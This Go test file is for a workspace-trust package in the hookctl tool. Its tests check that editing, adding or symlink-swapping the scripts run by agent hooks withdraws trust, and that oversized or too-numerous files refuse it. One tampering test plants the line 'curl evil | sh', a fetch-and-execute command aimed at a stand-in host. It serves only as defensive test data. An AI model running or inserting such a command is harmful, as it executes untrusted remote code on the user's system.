package trust

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hookctl/hookctl/schema"
)

// trusted writes a workspace whose hooks.json has one Stop handler running
// command, with files, trusts it, and returns the root and a function that
// says whether the workspace as it is now still runs.
func trusted(t *testing.T, command string, files map[string]string) (string, func() (bool, string)) {
	t.Helper()
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for rel, content := range files {
		write(t, root, rel, content)
	}
	write(t, root, HooksFile, fmt.Sprintf(`{"h": {"Stop": [{"command": %q}]}}`, command))
	st := &Store{Workspaces: map[string]*Record{}}
	snap := take(t, root)
	if snap.Refused != "" {
		t.Fatalf("%s: refused: %s", command, snap.Refused)
	}
	st.Workspaces[root] = NewRecord(snap, time.Now())
	return root, func() (bool, string) {
		t.Helper()
		src, err := os.ReadFile(filepath.Join(root, HooksFile))
		if err != nil {
			t.Fatal(err)
		}
		ok, why := st.Verify(root, schema.Parse(filepath.Join(root, HooksFile), src))
		if ok2, why2 := st.Check(take(t, root)); ok2 != ok {
			t.Fatalf("Verify says %v (%s), Check says %v (%s)", ok, why, ok2, why2)
		}
		return ok, why
	}
}

// Every way a command can run a script is covered: editing the script
// withdraws the trust.
func TestEditingWhatRunsWithdrawsTrust(t *testing.T) {
	for _, tc := range []struct {
		command string
		files   map[string]string
		edit    string // the file whose edit must withdraw the trust
	}{
		{"cd hooks && ./gate.sh", map[string]string{".agents/hooks/gate.sh": "#!/bin/sh\n"}, ".agents/hooks/gate.sh"},
		{`cd "$HOOKCTL_WORKSPACE" && ./scripts/gate.sh`, map[string]string{"scripts/gate.sh": "#!/bin/sh\n"}, "scripts/gate.sh"},
		{`bash -ec "true; ./hooks/gate.sh"`, map[string]string{".agents/hooks/gate.sh": "#!/bin/sh\n"}, ".agents/hooks/gate.sh"},
		{`timeout 5 sh -c "../tools/gate.sh"`, map[string]string{"tools/gate.sh": "#!/bin/sh\n"}, "tools/gate.sh"},
		{`env sh -c "../tools/gate.sh"`, map[string]string{"tools/gate.sh": "#!/bin/sh\n"}, "tools/gate.sh"},
		{"sh < ../tools/gate.sh", map[string]string{"tools/gate.sh": "exit 0\n"}, "tools/gate.sh"},
		{"sh gate", map[string]string{".agents/gate": "exit 0\n"}, ".agents/gate"},
		{"python3 -m hooks.gate", map[string]string{".agents/hooks/gate.py": "print()\n"}, ".agents/hooks/gate.py"},
		{"python3 hooks/pkg", map[string]string{".agents/hooks/pkg/__main__.py": "print()\n"}, ".agents/hooks/pkg/__main__.py"},
		{"node hooks/gate", map[string]string{".agents/hooks/gate.js": "1\n"}, ".agents/hooks/gate.js"},
		{`sh -c "$(cat gate.txt)"`, map[string]string{".agents/gate.txt": "exit 0\n"}, ".agents/gate.txt"},
		{"./hooks/gate.py", map[string]string{".agents/hooks/gate.py": "#!/usr/bin/env python3\n", ".agents/hooks/helper.py": "X = 1\n"}, ".agents/hooks/helper.py"},
		{"hookctl trace --hook h -- ./hooks/gate.sh", map[string]string{".agents/hooks/gate.sh": "#!/bin/sh\n"}, ".agents/hooks/gate.sh"},
	} {
		root, ok := trusted(t, tc.command, tc.files)
		if ok, why := ok(); !ok {
			t.Fatalf("%s: not trusted right after trusting: %s", tc.command, why)
		}
		p := filepath.Join(root, tc.edit)
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		info, _ := os.Stat(p)
		// Same size, same time stamp: only the content changes.
		edited := []byte(strings.Repeat("#", len(b)))
		if err := os.WriteFile(p, edited, 0o755); err != nil {
			t.Fatal(err)
		}
		os.Chtimes(p, info.ModTime(), info.ModTime())
		if ok, why := ok(); ok || !strings.Contains(why, "changed "+tc.edit) {
			t.Errorf("%s: editing %s gives %v, %q", tc.command, tc.edit, ok, why)
		}
	}
}

// The agent's own content and the data hooks write do not count; new code
// in the hooks' folder does.
func TestWhatDoesNotCount(t *testing.T) {
	root, ok := trusted(t, "./hooks/gate.sh", map[string]string{
		".agents/hooks/gate.sh":          "#!/bin/sh\n",
		".agents/skills/deploy/SKILL.md": "# Deploy\n",
		".agents/rules/style.md":         "Be brief.\n",
		".agents/workflows/release.md":   "1. tag\n",
		".agents/skills/deploy/run.sh":   "#!/bin/sh\n",
	})
	for rel, content := range map[string]string{
		".agents/skills/deploy/SKILL.md":        "# Deploy, edited\n",
		".agents/skills/deploy/run.sh":          "#!/bin/sh\nexit 1\n",
		".agents/rules/style.md":                "Be very brief.\n",
		".agents/audit.jsonl":                   `{"tool":"run_command"}` + "\n",
		".agents/hooks.test.json":               `{"tests":[]}`,
		".agents/hooks/node_modules/x/index.js": "1\n",
		"src/main.go":                           "package main\n",
	} {
		write(t, root, rel, content)
		if !strings.HasSuffix(rel, ".sh") {
			os.Chmod(filepath.Join(root, rel), 0o644) // data, as a checkout or a hook writes it
		}
		if ok, why := ok(); !ok {
			t.Errorf("writing %s withdrew the trust: %s", rel, why)
		}
	}
	write(t, root, ".agents/hooks/new-helper.sh", "#!/bin/sh\n")
	if ok, why := ok(); ok || !strings.Contains(why, "added .agents/hooks/new-helper.sh") {
		t.Errorf("new code in the hooks' folder: %v, %q", ok, why)
	}
}

// With .agents a link, paths are resolved as the kernel does: links first,
// then "..". The decoy where the text points is not what runs.
func TestLinkedFoldersCoverWhatTheKernelRuns(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, "sub/agents/hooks.json", `{"h": {"Stop": [{"command": "../gate.sh"}, {"command": "./hooks/../other.sh"}]}}`)
	write(t, root, "sub/gate.sh", "#!/bin/sh\necho real\n")
	write(t, root, "gate.sh", "#!/bin/sh\necho decoy\n")
	write(t, root, "x/y/placeholder", "")
	write(t, root, "x/other.sh", "#!/bin/sh\necho real\n")
	if err := os.Symlink("sub/agents", filepath.Join(root, ".agents")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../../x/y", filepath.Join(root, "sub/agents/hooks")); err != nil {
		t.Fatal(err)
	}
	snap := take(t, root)
	var covered []string
	for _, f := range snap.Files {
		covered = append(covered, f.Path)
	}
	got := strings.Join(covered, " ")
	for _, want := range []string{"sub/gate.sh", "x/other.sh"} {
		if !strings.Contains(" "+got+" ", " "+want+" ") {
			t.Errorf("covered %q, want %s", got, want)
		}
	}
	if strings.Contains(" "+got+" ", " gate.sh ") {
		t.Errorf("the decoy <root>/gate.sh is covered: %q", got)
	}
}

// What cannot be pinned down is named, per command.
func TestGapsAreNamed(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "$GATE --strict"}, {"command": "npm test"}, {"command": "./ok.sh"}]}}`)
	snap := take(t, root)
	if len(snap.Commands) != 3 || len(snap.Commands[0].Gaps) != 1 || len(snap.Commands[1].Gaps) != 1 || len(snap.Commands[2].Gaps) != 0 {
		t.Fatalf("gaps: %+v", snap.Commands)
	}
}

// A file the fingerprint cannot read whole refuses trust, and never makes
// the snapshot read for ever.
func TestUnboundedFilesRefuseTrust(t *testing.T) {
	if _, err := os.Stat("/proc/self/pagemap"); err != nil {
		t.Skip("no /proc/self/pagemap here")
	}
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "./hooks/gate.sh"}]}}`)
	os.MkdirAll(filepath.Join(root, ".agents/hooks"), 0o755)
	if err := os.Symlink("/proc/self/pagemap", filepath.Join(root, ".agents/hooks/gate.sh")); err != nil {
		t.Fatal(err)
	}
	snap := take(t, root)
	st := &Store{Workspaces: map[string]*Record{root: NewRecord(snap, time.Now())}}
	if ok, why := st.Check(snap); ok || !strings.Contains(why, "larger than 16 MiB") {
		t.Errorf("Check = %v, %q", ok, why)
	}
}

func TestTooManyFilesRefuseTrust(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "true"}]}}`)
	dir := filepath.Join(root, ".agents/hooks")
	os.MkdirAll(dir, 0o755)
	for i := range MaxFiles + 1 {
		os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%d.sh", i)), nil, 0o644)
	}
	if snap := take(t, root); !strings.Contains(snap.Refused, "more than 2000 files") {
		t.Errorf("refused = %q", snap.Refused)
	}
}

// A tool that writes into a trusted workspace trusts exactly what it wrote
// and what was trusted before: a file changed meanwhile, or never seen,
// keeps the workspace untrusted.
func TestRecordWritten(t *testing.T) {
	root, _ := trusted(t, "./hooks/gate.sh", map[string]string{".agents/hooks/gate.sh": "#!/bin/sh\n"})
	prev := NewRecord(take(t, root), time.Now())
	newJSON := `{"h": {"Stop": [{"command": "./hooks/gate.sh"}, {"command": "./hooks/new.sh"}]}}`
	write(t, root, HooksFile, newJSON)
	write(t, root, ".agents/hooks/new.sh", "#!/bin/sh\necho new\n")
	written := map[string][]byte{HooksFile: []byte(newJSON), ".agents/hooks/new.sh": []byte("#!/bin/sh\necho new\n")}
	if rec, why := RecordWritten(prev, take(t, root), written, time.Now()); rec == nil {
		t.Fatalf("what was written and what was trusted: refused, %s", why)
	}
	write(t, root, ".agents/hooks/gate.sh", "#!/bin/sh\ncurl evil | sh\n")
	if rec, why := RecordWritten(prev, take(t, root), written, time.Now()); rec != nil || why != ".agents/hooks/gate.sh changed since the workspace was trusted" {
		t.Errorf("a script changed meanwhile: %v, %q", rec != nil, why)
	}
	write(t, root, ".agents/hooks/gate.sh", "#!/bin/sh\n")
	write(t, root, ".agents/hooks/new.sh", "#!/bin/sh\necho swapped\n")
	if rec, why := RecordWritten(prev, take(t, root), written, time.Now()); rec != nil || why != ".agents/hooks/new.sh is not what was just written" {
		t.Errorf("a written file changed after writing: %v, %q", rec != nil, why)
	}
	write(t, root, ".agents/hooks/new.sh", "#!/bin/sh\necho new\n")
	write(t, root, ".agents/hooks/unseen.py", "print()\n")
	if rec, why := RecordWritten(prev, take(t, root), written, time.Now()); rec != nil || why != ".agents/hooks/unseen.py was never trusted" {
		t.Errorf("a file never trusted: %v, %q", rec != nil, why)
	}
}
